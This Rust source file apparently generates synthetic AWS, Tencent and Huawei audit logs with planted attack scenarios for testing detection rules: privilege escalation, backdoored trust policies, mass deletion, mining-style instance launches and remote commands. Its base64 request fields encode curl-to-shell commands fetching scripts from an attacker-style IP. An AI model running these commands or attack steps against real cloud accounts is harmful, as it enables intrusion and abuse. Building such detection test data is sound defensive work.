//! Planted attacks: scheduling the next scenario of the rotation that fits
//! in the span, and writing its steps with the clouds' own action names and
//! shapes so that the rule named in `scenarios` fires. Steps are rendered at
//! once and wait in the generator's queue for their time.

use std::cmp::Reverse;
use std::sync::Arc;

use serde_json::{Value, json};

use crate::event::model::Provider;

use super::agents::{agent, kebab};
use super::call::{Call, Op, Who};
use super::generator::{Generator, Pending, keys_of_cloud};
use super::organisation::{
    ATTACKER_IPS, Account, FIXED_IPS, GITHUB_HOOK_IPS, INSTANCE_ROLE, Person, instance_egress_ip, long_term_key,
    role_session_key,
};
use super::random::{B32, LOWER_ALNUM, Rng, digits};
use super::scenarios::{SCENARIO_CLOUDS, SCENARIOS};
use super::timeline::{DAY_MS, MINUTE_MS, aws_display_time, next_local_hour, utc};

/// One planned step of a scenario.
struct Step {
    call: Call,
}

impl Generator {
    /// Schedule the next scenario of the rotation that fits in the span.
    pub(super) fn plant(&mut self, now_ms: i64) {
        let latest = self.timeline.end_ms() - self.timeline.span_ms / 50;
        for _ in 0..SCENARIOS.len() {
            let scenario = self.scenario_turn % SCENARIOS.len();
            self.scenario_turn += 1;
            let clouds: Vec<Provider> = SCENARIO_CLOUDS[scenario]
                .iter()
                .copied()
                .filter(|provider| self.clouds.contains(provider))
                .collect();
            if clouds.is_empty() {
                continue;
            }
            let provider = clouds[self.planted_counts[scenario] % clouds.len()];
            let start = now_ms + self.rng.range(1, 10) * MINUTE_MS;
            let steps = self.scenario_steps(scenario, provider, start);
            let last = steps.iter().map(|step| step.call.time_ms).max().unwrap_or(start);
            if steps.is_empty() || last > latest {
                continue;
            }
            self.planted_counts[scenario] += 1;
            let name = SCENARIOS[scenario].0;
            for step in steps {
                let record = self.record(&step.call, Some(name));
                self.sequence += 1;
                self.pending.push(Reverse(Pending {
                    time_ms: record.time.timestamp_millis(),
                    sequence: self.sequence,
                    record,
                }));
            }
            return;
        }
    }

    /// An attack call by `who` with `key`, from `ip`.
    fn attack_call(&mut self, provider: Provider, account: usize, time_ms: i64, actor: &Actor, op: Op) -> Step {
        let region = self.org.accounts(provider)[account].regions[0].to_string();
        let agent = actor
            .agent
            .clone()
            .unwrap_or_else(|| agent(provider, actor.tool, op.service, &op.action));
        let mut call = Call::new(provider, time_ms, account, actor.who.clone(), op);
        call.key = Some(actor.key.clone());
        call.ip = actor.ip.clone();
        call.agent = agent;
        call.region = region;
        Step { call }
    }

    /// The calls of scenario number `scenario` on `provider`, from `start` on.
    fn scenario_steps(&mut self, scenario: usize, provider: Provider, start: i64) -> Vec<Step> {
        let org = Arc::clone(&self.org);
        let account = self.rng.index(org.accounts(provider).len());
        let holder = &org.accounts(provider)[account];
        let attacker_ip = self.rng.pick(ATTACKER_IPS).to_string();
        let victim = holder.users[*self.rng.pick(&holder.programmatic)].clone();
        let tool = self.rng.index(4);
        let user_actor = |key: String, ip: String| Actor {
            who: Who::User(victim.clone()),
            key,
            ip,
            tool,
            agent: None,
        };
        let mut t = start;
        let new_name = format!(
            "{}{}",
            self.rng
                .pick(&["sys-maint", "svc-backup", "ops-sync", "support-tmp", "devops-bak"]),
            self.rng.range(2, 99)
        );
        let other_user = holder.users[self.rng.index(holder.users.len())].clone();
        let instance = self.rng.pick(&holder.instances).clone();
        let mut steps = Vec::new();
        match SCENARIOS[scenario].0 {
            "root_key_high_risk" => {
                let key = self.fresh_key(provider, account);
                let actor = Actor {
                    who: Who::Root,
                    key,
                    ip: attacker_ip,
                    tool,
                    agent: None,
                };
                let ops = match provider {
                    Provider::Aws => vec![
                        Op::new("iam", "ListAccessKeys", true).request(json!({"maxItems": 100})),
                        Op::new("iam", "CreateUser", false)
                            .request(json!({"userName": new_name}))
                            .response(json!({"user": {"path": "/", "userName": new_name, "userId": format!("AIDA{}{}", holder.key_tag, self.rng.chars(B32, 9)), "arn": format!("arn:aws:iam::{}:user/{new_name}", holder.id), "createDate": aws_display_time(start)}})),
                        Op::new("iam", "DeleteUser", false).request(json!({"userName": other_user.name})),
                    ],
                    Provider::Tencent => vec![
                        Op::new("cam", "ListAccessKeys", true).resource("cam", "", ""),
                        Op::new("cam", "AddUser", false)
                            .request(json!({"Name": new_name, "Remark": "", "ConsoleLogin": 0, "UseApi": 1}))
                            .resource("cam", &new_name, ""),
                        Op::new("cam", "DeleteUser", false)
                            .request(json!({"Name": other_user.name, "Force": 1}))
                            .resource("cam", &other_user.name, ""),
                    ],
                    Provider::Huawei => vec![
                        Op::new("iam", "createUser", false)
                            .request(json!({"user": {"name": new_name, "domain_id": holder.id, "enabled": true, "password": "********"}}))
                            .response(json!({"user": {"id": self.rng.hex(32), "name": new_name, "domain_id": holder.id, "enabled": true}}))
                            .resource("user", &new_name, ""),
                        Op::new("iam", "deleteUser", false)
                            .resource("user", &other_user.name, &other_user.id),
                    ],
                };
                for op in ops {
                    let time = tick(&mut t, &mut self.rng, 20, 120);
                    steps.push(self.attack_call(provider, account, time, &actor, op));
                }
            }
            "sdk_high_risk_write" => {
                let (_, _, key) = self.pool_key_in(provider, account, &victim);
                let actor = user_actor(key, attacker_ip);
                let ops = match provider {
                    Provider::Aws => {
                        let role = self.rng.pick(&holder.roles[..4]).name.clone();
                        let trust = json!({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"AWS": format!("arn:aws:iam::{}:user/{}", holder.id, victim.name)}, "Action": "sts:AssumeRole"}]});
                        vec![
                            Op::new("iam", "AttachRolePolicy", false).request(json!({"roleName": role, "policyArn": "arn:aws:iam::aws:policy/AmazonS3FullAccess"})),
                            Op::new("iam", "UpdateAssumeRolePolicy", false).request(json!({"roleName": role, "policyDocument": trust.to_string()})),
                        ]
                    }
                    Provider::Tencent => vec![
                        Op::new("cvm", "ModifyInstancesAttribute", false)
                            .request(json!({"InstanceIds": [instance.id], "UserData": "IyEvYmluL2Jhc2gKY3VybCAtZnNTTCBodHRwOi8vNDUuNzYuMjE4LjkyL2kuc2ggfCBzaA=="}))
                            .resource("cvm", &instance.id, ""),
                        Op::new("cam", "UpdateAssumeRolePolicy", false)
                            .request(json!({"RoleName": "ops_automation", "PolicyDocument": json!({"version": "2.0", "statement": [{"action": "name/sts:AssumeRole", "effect": "allow", "principal": {"qcs": [format!("qcs::cam::uin/{}:root", 100_098_765_432u64)]}}]}).to_string()})),
                    ],
                    Provider::Huawei => vec![
                        Op::new("ecs", "updateMetadata", false)
                            .request(json!({"metadata": {"user_data": "IyEvYmluL2Jhc2gKY3VybCAtZnNTTCBodHRwOi8vNDUuNzYuMjE4LjkyL2kuc2ggfCBzaA=="}}))
                            .response(json!({"metadata": {"user_data": "IyEvYmluL2Jhc2gK..."}}))
                            .resource("ecs", &instance.name, &instance.id),
                        Op::new("iam", "updateAgency", false)
                            .request(json!({"agency": {"trust_domain_id": self.rng.hex(32), "duration": "FOREVER"}}))
                            .resource("agency", "ops_admin_agency", &self.rng.hex(32)),
                    ],
                };
                for op in ops {
                    let time = tick(&mut t, &mut self.rng, 30, 240);
                    steps.push(self.attack_call(provider, account, time, &actor, op));
                }
            }
            "access_key_created" => {
                let (_, _, key) = self.pool_key_in(provider, account, &victim);
                let actor = user_actor(key, attacker_ip);
                let target = other_user.clone();
                let new_key = self.fresh_key(provider, account);
                let op = access_key_op(provider, holder, &target, &new_key, start);
                let time = tick(&mut t, &mut self.rng, 10, 60);
                steps.push(self.attack_call(provider, account, time, &actor, op));
            }
            "admin_policy_attached" => {
                let (_, _, key) = self.pool_key_in(provider, account, &victim);
                let actor = user_actor(key, attacker_ip);
                let op = match provider {
                    Provider::Tencent => Op::new("cam", "AttachUserPolicy", false)
                        .request(json!({"AttachUin": other_user.id.parse::<u64>().unwrap_or(0), "PolicyId": 1}))
                        .resource("cam", &other_user.name, ""),
                    _ => Op::new("iam", "AttachUserPolicy", false).request(json!({"userName": other_user.name, "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"})),
                };
                let time = tick(&mut t, &mut self.rng, 10, 60);
                steps.push(self.attack_call(provider, account, time, &actor, op));
            }
            "off_hours_deletion" => {
                t = next_local_hour(start, 2) + self.rng.range(0, 80) * MINUTE_MS;
                let (_, _, key) = self.pool_key_in(provider, account, &victim);
                let actor = user_actor(key, attacker_ip);
                let second = holder.instances[(holder.instances.iter().position(|i| i.id == instance.id).unwrap_or(0)
                    + 1)
                    % holder.instances.len()]
                .clone();
                let bucket = self.rng.pick(&holder.buckets).clone();
                let ops = match provider {
                    Provider::Aws => vec![
                        Op::new("ec2", "TerminateInstances", false)
                            .request(json!({"instancesSet": {"items": [{"instanceId": instance.id}, {"instanceId": second.id}]}}))
                            .response(json!({"requestId": self.rng.uuid(), "instancesSet": {"items": [
                                {"instanceId": instance.id, "currentState": {"code": 32, "name": "shutting-down"}, "previousState": {"code": 16, "name": "running"}},
                                {"instanceId": second.id, "currentState": {"code": 32, "name": "shutting-down"}, "previousState": {"code": 16, "name": "running"}}
                            ]}})),
                        Op::new("s3", "DeleteBucket", false)
                            .request(json!({"bucketName": bucket, "Host": "s3.amazonaws.com"}))
                            .extra("resources", json!([{"accountId": holder.id, "type": "AWS::S3::Bucket", "ARN": format!("arn:aws:s3:::{bucket}")}])),
                    ],
                    Provider::Tencent => vec![
                        Op::new("cvm", "TerminateInstances", false)
                            .request(json!({"InstanceIds": [instance.id, second.id]}))
                            .resource("cvm", &instance.id, ""),
                        Op::new("cos", "DeleteBucket", false)
                            .request(json!({"Bucket": bucket}))
                            .resource("cos", &bucket, ""),
                    ],
                    Provider::Huawei => vec![
                        Op::new("ecs", "deleteServer", false)
                            .request(json!({"servers": [{"id": instance.id}, {"id": second.id}], "delete_publicip": true, "delete_volume": true}))
                            .response(json!({"job_id": self.rng.hex(32)}))
                            .resource("ecs", &instance.name, &instance.id),
                        Op::new("obs", "deleteBucket", false).resource("bucket", &bucket, &bucket),
                    ],
                };
                for op in ops {
                    let time = tick(&mut t, &mut self.rng, 40, 300);
                    steps.push(self.attack_call(provider, account, time, &actor, op));
                }
            }
            "github_hook_leaked_key" => {
                let (_, _, key) = self.pool_key_in(provider, account, &victim);
                let ip = self.rng.pick(GITHUB_HOOK_IPS).to_string();
                let actor = user_actor(key, ip);
                let ops = match provider {
                    Provider::Aws => vec![
                        Op::new("sts", "GetCallerIdentity", true),
                        Op::new("ec2", "DescribeInstances", true).request(json!({"instancesSet": {}, "filterSet": {}})),
                    ],
                    Provider::Tencent => vec![
                        Op::new("sts", "GetCallerIdentity", true).request(json!({})),
                        Op::new("cvm", "DescribeInstances", true).request(json!({"Limit": 100, "Offset": 0})),
                    ],
                    Provider::Huawei => vec![Op::new("ecs", "listServersDetails", true).resource("ecs", "", "")],
                };
                for op in ops {
                    let time = tick(&mut t, &mut self.rng, 1, 8);
                    steps.push(self.attack_call(provider, account, time, &actor, op));
                }
            }
            "instance_credentials_stolen" => {
                // Only AWS names a role session after its instance.
                let Some(role) = holder.roles.iter().find(|role| role.name == INSTANCE_ROLE).cloned() else {
                    return steps;
                };
                let session = instance.id.clone();
                let key = role_session_key(provider, holder, &role, &session, t);
                let who = Who::Role { role, session };
                let own = Actor {
                    who: who.clone(),
                    key: key.clone(),
                    ip: instance_egress_ip(&instance.id),
                    tool: 0,
                    agent: Some("aws-sdk-java/2.25.16 Linux/6.1.79 OpenJDK_64-Bit_Server_VM/17.0.10+7-LTS Java/17.0.10 vendor/Amazon.com_Inc. io/sync http/Apache cfg/retry-mode/legacy".into()),
                };
                let time = tick(&mut t, &mut self.rng, 1, 5);
                steps.push(self.attack_call(provider, account, time, &own, Op::new("s3", "ListBuckets", true)));
                let thief = Actor {
                    who,
                    key,
                    ip: attacker_ip.clone(),
                    tool,
                    agent: None,
                };
                for op in [
                    Op::new("sts", "GetCallerIdentity", true),
                    Op::new("s3", "ListBuckets", true),
                    Op::new("iam", "ListRoles", true).request(json!({})),
                ] {
                    let time = tick(&mut t, &mut self.rng, 2, 9);
                    steps.push(self.attack_call(provider, account, time, &thief, op));
                }
            }
            "hacker_tool_agent" => {
                let (_, _, key) = self.pool_key_in(provider, account, &victim);
                let trufflehog = self.planted_counts[scenario] % 2 == 1;
                let mut actor = user_actor(key, attacker_ip);
                if trufflehog {
                    actor.agent = Some("trufflehog/3.63.0".to_string());
                    let time = tick(&mut t, &mut self.rng, 1, 5);
                    steps.push(self.attack_call(
                        provider,
                        account,
                        time,
                        &actor,
                        Op::new("sts", "GetCallerIdentity", true),
                    ));
                } else {
                    for (service, action, request) in [
                        ("sts", "GetCallerIdentity", Value::Null),
                        ("s3", "ListBuckets", json!({"Host": "s3.amazonaws.com"})),
                        ("iam", "ListUsers", json!({"maxItems": 100})),
                        ("ec2", "DescribeInstances", json!({"instancesSet": {}, "filterSet": {}})),
                    ] {
                        actor.agent = Some(format!(
                            "aws-cli/2.15.30 Python/3.11.8 Linux/6.6.9-amd64 exe/x86_64.kali.2024 prompt/off command/{service}.{}",
                            kebab(action)
                        ));
                        let time = tick(&mut t, &mut self.rng, 5, 40);
                        steps.push(self.attack_call(
                            provider,
                            account,
                            time,
                            &actor,
                            Op::new(service, action, true).request(request),
                        ));
                    }
                }
            }
            "cos_browser" => {
                let (_, _, key) = self.pool_key_in(provider, account, &victim);
                let mut actor = user_actor(key, attacker_ip);
                actor.agent = Some("cos-browser/2.11.8 (Windows)".to_string());
                let bucket = self.rng.pick(&holder.buckets).clone();
                for op in [
                    Op::new("cos", "GetService", true),
                    Op::new("cos", "GetBucket", true)
                        .request(json!({"Bucket": bucket, "prefix": "", "max-keys": 1000}))
                        .resource("cos", &bucket, ""),
                    Op::new("cos", "GetBucketACL", true)
                        .request(json!({"Bucket": bucket}))
                        .resource("cos", &bucket, ""),
                ] {
                    let time = tick(&mut t, &mut self.rng, 2, 30);
                    steps.push(self.attack_call(provider, account, time, &actor, op));
                }
            }
            "remote_command" => {
                let (_, _, key) = self.pool_key_in(provider, account, &victim);
                let actor = user_actor(key, attacker_ip);
                let script = "Y3VybCAtZnNTTCBodHRwOi8vNDUuNzYuMjE4LjkyL3guc2ggfCBiYXNo";
                let ops = match provider {
                    Provider::Tencent => {
                        let command = format!("cmd-{}", self.rng.chars(LOWER_ALNUM, 8));
                        vec![
                            Op::new("tat", "RunCommand", false)
                                .request(json!({"Content": script, "InstanceIds": [instance.id], "CommandType": "SHELL", "WorkingDirectory": "/root", "Timeout": 60, "SaveCommand": false}))
                                .resource("tat", &instance.id, ""),
                            Op::new("tat", "InvokeCommand", false)
                                .request(json!({"CommandId": command, "InstanceIds": [instance.id]}))
                                .resource("tat", &command, ""),
                        ]
                    }
                    Provider::Aws => vec![
                        Op::new("ssm", "SendCommand", false)
                            .request(json!({"instanceIds": [instance.id], "documentName": "AWS-RunShellScript", "parameters": "HIDDEN_DUE_TO_SECURITY_REASONS", "interactive": false}))
                            .response(json!({"command": {"commandId": self.rng.uuid(), "documentName": "AWS-RunShellScript", "status": "Pending", "instanceIds": [instance.id]}})),
                    ],
                    Provider::Huawei => vec![
                        Op::new("coc", "ExecuteScript", false)
                            .request(json!({"execute_param": {"resources": [{"resource_id": instance.id, "region_id": holder.regions[0]}], "script_params": [], "timeout": 300, "execute_user": "root"}}))
                            .response(json!({"data": format!("SCT{}", self.rng.hex(16))}))
                            .resource("script", "cleanup-tmp", &format!("SC{}", self.rng.hex(20))),
                    ],
                };
                for op in ops {
                    let time = tick(&mut t, &mut self.rng, 10, 90);
                    steps.push(self.attack_call(provider, account, time, &actor, op));
                }
            }
            "api_resource_created" => {
                let key = self.fresh_key(provider, account);
                let actor = user_actor(key, attacker_ip);
                let ops = match provider {
                    Provider::Aws => {
                        let ids: Vec<String> = (0..4).map(|_| format!("i-0{}", self.rng.hex(16))).collect();
                        vec![Op::new("ec2", "RunInstances", false)
                            .request(json!({"instancesSet": {"items": [{"imageId": "ami-0c7217cdde317cfec", "minCount": 4, "maxCount": 4}]}, "instanceType": "p3.8xlarge", "blockDeviceMapping": {}, "monitoring": {"enabled": false}, "disableApiTermination": false, "disableApiStop": false, "clientToken": self.rng.uuid()}))
                            .response(json!({"requestId": self.rng.uuid(), "reservationId": format!("r-0{}", self.rng.hex(16)), "ownerId": holder.id, "groupSet": {}, "instancesSet": {"items": ids.iter().map(|id| json!({"instanceId": id, "instanceType": "p3.8xlarge", "instanceState": {"code": 0, "name": "pending"}})).collect::<Vec<_>>()}})),
                        Op::new("rds", "CreateDBInstance", false)
                            .request(json!({"dBInstanceIdentifier": "tmp-export", "dBInstanceClass": "db.r6g.8xlarge", "engine": "mysql", "allocatedStorage": 2000, "masterUsername": "admin", "masterUserPassword": "HIDDEN_DUE_TO_SECURITY_REASONS", "publiclyAccessible": true}))
                            .response(json!({"dBInstanceIdentifier": "tmp-export", "dBInstanceClass": "db.r6g.8xlarge", "engine": "mysql", "dBInstanceStatus": "creating", "allocatedStorage": 2000, "publiclyAccessible": true, "dbiResourceId": format!("db-{}", self.rng.chars(B32, 26))}))]
                    }
                    Provider::Tencent => vec![
                        Op::new("cvm", "RunInstances", false).request(json!({"InstanceChargeType": "POSTPAID_BY_HOUR", "Placement": {"Zone": format!("{}-3", holder.regions[0])}, "InstanceType": "GN10X.18XLARGE160", "ImageId": "img-eb30mz89", "InstanceCount": 4, "InternetAccessible": {"InternetMaxBandwidthOut": 100, "PublicIpAssigned": true}})),
                        Op::new("cdb", "CreateDBInstance", false).request(json!({"GoodsNum": 1, "Memory": 64000, "Volume": 2000, "Period": 1, "EngineVersion": "8.0", "Zone": format!("{}-3", holder.regions[0])})),
                    ],
                    Provider::Huawei => vec![
                        Op::new("ecs", "createServer", false)
                            .request(json!({"server": {"name": "ecs-miner", "flavorRef": "p2s.8xlarge.8", "count": 4, "imageRef": self.rng.uuid()}}))
                            .response(json!({"job_id": self.rng.hex(32), "serverIds": [self.rng.uuid(), self.rng.uuid(), self.rng.uuid(), self.rng.uuid()]}))
                            .resource("ecs", "ecs-miner", ""),
                        Op::new("rds", "createInstance", false)
                            .request(json!({"name": "rds-tmp", "datastore": {"type": "MySQL", "version": "8.0"}, "flavor_ref": "rds.mysql.x1.8xlarge.4"}))
                            .resource("instance", "rds-tmp", ""),
                    ],
                };
                for op in ops {
                    let time = tick(&mut t, &mut self.rng, 20, 200);
                    steps.push(self.attack_call(provider, account, time, &actor, op));
                }
            }
            "new_user_high_risk" => {
                let (_, _, key) = self.pool_key_in(provider, account, &victim);
                let admin = user_actor(key, attacker_ip.clone());
                let new_id = match provider {
                    Provider::Aws => format!("AIDA{}{}", holder.key_tag, self.rng.chars(B32, 9)),
                    Provider::Tencent => format!("100{}", digits(&mut self.rng, 9)),
                    Provider::Huawei => self.rng.hex(32),
                };
                let new_user = Person {
                    name: new_name.clone(),
                    id: new_id.clone(),
                    tool,
                };
                let new_key = self.fresh_key(provider, account);
                let create = match provider {
                    Provider::Aws => Op::new("iam", "CreateUser", false)
                        .request(json!({"userName": new_name}))
                        .response(json!({"user": {"path": "/", "userName": new_name, "userId": new_id, "arn": format!("arn:aws:iam::{}:user/{new_name}", holder.id), "createDate": aws_display_time(start)}})),
                    Provider::Tencent => Op::new("cam", "AddUser", false)
                        .request(json!({"Name": new_name, "Remark": "", "ConsoleLogin": 0, "UseApi": 1}))
                        .resource("cam", &new_name, ""),
                    Provider::Huawei => Op::new("iam", "createUser", false)
                        .request(json!({"user": {"name": new_name, "domain_id": holder.id, "enabled": true}}))
                        .response(json!({"user": {"id": new_id, "name": new_name, "domain_id": holder.id, "enabled": true}}))
                        .resource("user", &new_name, &new_id),
                };
                let time = tick(&mut t, &mut self.rng, 10, 60);
                steps.push(self.attack_call(provider, account, time, &admin, create));
                if provider != Provider::Tencent {
                    // Tencent AddUser with UseApi=1 returns the key itself.
                    let op = access_key_op(provider, holder, &new_user, &new_key, start);
                    let time = tick(&mut t, &mut self.rng, 20, 120);
                    steps.push(self.attack_call(provider, account, time, &admin, op));
                }
                let actor = Actor {
                    who: Who::User(new_user.clone()),
                    key: new_key,
                    ip: self.rng.pick(ATTACKER_IPS).to_string(),
                    tool,
                    agent: None,
                };
                t += self.rng.range(60, 180) * MINUTE_MS;
                let ops = match provider {
                    Provider::Aws => vec![
                        Op::new("iam", "ListAccessKeys", true).request(json!({"maxItems": 100})),
                        Op::new("iam", "PutUserPolicy", false).request(json!({"userName": new_name, "policyName": "maint", "policyDocument": "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}]}"})),
                    ],
                    Provider::Tencent => vec![
                        Op::new("cam", "ListAccessKeys", true).resource("cam", "", ""),
                        Op::new("tat", "RunCommand", false)
                            .request(json!({"Content": "d2hvYW1pOyBpZA==", "InstanceIds": [instance.id], "CommandType": "SHELL"}))
                            .resource("tat", &instance.id, ""),
                    ],
                    Provider::Huawei => vec![
                        Op::new("ecs", "updateMetadata", false)
                            .request(json!({"metadata": {"user_data": "IyEvYmluL2Jhc2gKaWQ="}}))
                            .resource("ecs", &instance.name, &instance.id),
                        Op::new("iam", "createCredential", false)
                            .request(json!({"credential": {"user_id": new_id, "description": ""}}))
                            .response(json!({"credential": {"access": self.fresh_key(provider, account), "status": "active", "user_id": new_id, "create_time": utc(t).format("%Y-%m-%dT%H:%M:%S%.6fZ").to_string()}}))
                            .resource("credential", &new_name, ""),
                    ],
                };
                for op in ops {
                    let time = tick(&mut t, &mut self.rng, 30, 300);
                    steps.push(self.attack_call(provider, account, time, &actor, op));
                }
            }
            "idle_key_reused" => {
                let key = self.fresh_key(provider, account);
                let actor = user_actor(key, self.rng.pick(FIXED_IPS).to_string());
                let read = |provider: Provider| match provider {
                    Provider::Aws => {
                        Op::new("ec2", "DescribeInstances", true).request(json!({"instancesSet": {}, "filterSet": {}}))
                    }
                    Provider::Tencent => {
                        Op::new("cvm", "DescribeInstances", true).request(json!({"Limit": 20, "Offset": 0}))
                    }
                    Provider::Huawei => Op::new("ecs", "listServersDetails", true).resource("ecs", "", ""),
                };
                let time = tick(&mut t, &mut self.rng, 1, 30);
                steps.push(self.attack_call(provider, account, time, &actor, read(provider)));
                t += 45 * DAY_MS + self.rng.range(1, 18 * 60) * MINUTE_MS;
                let late = Actor {
                    ip: attacker_ip,
                    ..actor
                };
                let ops = match provider {
                    Provider::Aws => vec![
                        Op::new("sts", "GetCallerIdentity", true),
                        read(provider),
                        Op::new("s3", "ListBuckets", true).request(json!({"Host": "s3.amazonaws.com"})),
                    ],
                    Provider::Tencent => vec![
                        Op::new("sts", "GetCallerIdentity", true).request(json!({})),
                        read(provider),
                        Op::new("cam", "ListUsers", true).request(json!({})),
                    ],
                    Provider::Huawei => vec![
                        read(provider),
                        Op::new("ecs", "showServer", true).resource("ecs", &instance.name, &instance.id),
                    ],
                };
                for op in ops {
                    let time = tick(&mut t, &mut self.rng, 5, 60);
                    steps.push(self.attack_call(provider, account, time, &late, op));
                }
            }
            "denied_call_burst" => {
                let key = self.fresh_key(provider, account);
                let actor = user_actor(key, attacker_ip);
                let aws = [
                    ("iam", "ListUsers"),
                    ("iam", "ListRoles"),
                    ("iam", "ListPolicies"),
                    ("iam", "GetAccountAuthorizationDetails"),
                    ("iam", "ListAccessKeys"),
                    ("s3", "ListBuckets"),
                    ("ec2", "DescribeInstances"),
                    ("iam", "ListGroups"),
                    ("secretsmanager", "ListSecrets"),
                    ("ec2", "DescribeSecurityGroups"),
                    ("rds", "DescribeDBInstances"),
                    ("lambda", "ListFunctions20150331"),
                ];
                let tencent = [
                    ("cam", "ListUsers"),
                    ("cam", "ListAccessKeys"),
                    ("cvm", "DescribeInstances"),
                    ("cdb", "DescribeDBInstances"),
                    ("cam", "ListPolicies"),
                    ("vpc", "DescribeSecurityGroups"),
                    ("cam", "GetUser"),
                    ("cos", "GetService"),
                    ("cbs", "DescribeDisks"),
                    ("cam", "ListGroups"),
                    ("cam", "DescribeRoleList"),
                    ("ssm", "ListSecrets"),
                ];
                let huawei = [
                    ("iam", "createUser"),
                    ("iam", "createCredential"),
                    ("ecs", "createServer"),
                    ("ecs", "updateMetadata"),
                    ("iam", "createAgency"),
                    ("ecs", "deleteServer"),
                    ("obs", "deleteBucket"),
                    ("iam", "addUserToGroup"),
                    ("ecs", "resetServerPwd"),
                    ("vpc", "createSecurity-group-rule"),
                    ("iam", "updateUser"),
                    ("ecs", "rebootServer"),
                ];
                let calls = match provider {
                    Provider::Aws => aws,
                    Provider::Tencent => tencent,
                    Provider::Huawei => huawei,
                };
                for (service, action) in calls {
                    let read_only = provider != Provider::Huawei;
                    let mut op = Op::new(service, action, read_only);
                    if provider == Provider::Huawei {
                        op = op.request(json!("")).resource(service, "", "");
                    } else if provider == Provider::Tencent {
                        op = op.request(json!({}));
                    }
                    let time = tick(&mut t, &mut self.rng, 8, 22);
                    let mut step = self.attack_call(provider, account, time, &actor, op);
                    step.call.denied = true;
                    steps.push(step);
                }
            }
            _ => {}
        }
        steps
    }

    /// The long-term key `user` holds in the ordinary pool of `account`
    /// (or a fresh one when the pool gives this user none).
    fn pool_key_in(&mut self, provider: Provider, account: usize, user: &Person) -> (usize, Person, String) {
        let cloud = self
            .clouds
            .iter()
            .position(|candidate| *candidate == provider)
            .unwrap_or(0);
        let org = Arc::clone(&self.org);
        let accounts = org.accounts(provider);
        let holder = &accounts[account];
        let slot = holder
            .programmatic
            .iter()
            .position(|index| holder.users[*index].name == user.name);
        let count = keys_of_cloud(self.distinct_keys, self.clouds.len(), cloud);
        if let Some(slot) = slot {
            // local = account + accounts * (slot + programmatic * n)
            let local = account + accounts.len() * slot;
            if local < count {
                let global = (local * self.clouds.len() + cloud) as u64;
                return (
                    account,
                    user.clone(),
                    long_term_key(provider, holder, global, self.salt),
                );
            }
        }
        let key = self.fresh_key(provider, account);
        (account, user.clone(), key)
    }
}

/// Advance a scenario's clock by `low..=high` seconds.
fn tick(clock: &mut i64, rng: &mut Rng, low: i64, high: i64) -> i64 {
    *clock += rng.range(low, high) * 1000;
    *clock
}

/// Identity, key and address of an attack step.
#[derive(Clone, Debug)]
struct Actor {
    who: Who,
    key: String,
    ip: String,
    tool: usize,
    /// Overrides the tool's usual agent.
    agent: Option<String>,
}

/// The call that creates `new_key` for `target`, in the cloud's own words.
fn access_key_op(provider: Provider, holder: &Account, target: &Person, new_key: &str, time_ms: i64) -> Op {
    match provider {
        Provider::Aws => Op::new("iam", "CreateAccessKey", false)
            .request(json!({"userName": target.name}))
            .response(json!({"accessKey": {"accessKeyId": new_key, "status": "Active", "userName": target.name, "createDate": aws_display_time(time_ms)}})),
        Provider::Tencent => Op::new("cam", "CreateAccessKey", false)
            .request(json!({"TargetUin": target.id.parse::<u64>().unwrap_or(holder.uin)}))
            .resource("cam", &target.name, ""),
        Provider::Huawei => Op::new("iam", "createCredential", false)
            .request(json!({"credential": {"user_id": target.id, "description": ""}}))
            .response(json!({"credential": {"access": new_key, "status": "active", "user_id": target.id, "create_time": utc(time_ms).format("%Y-%m-%dT%H:%M:%S%.6fZ").to_string(), "description": ""}}))
            .resource("credential", &target.name, new_key),
    }
}
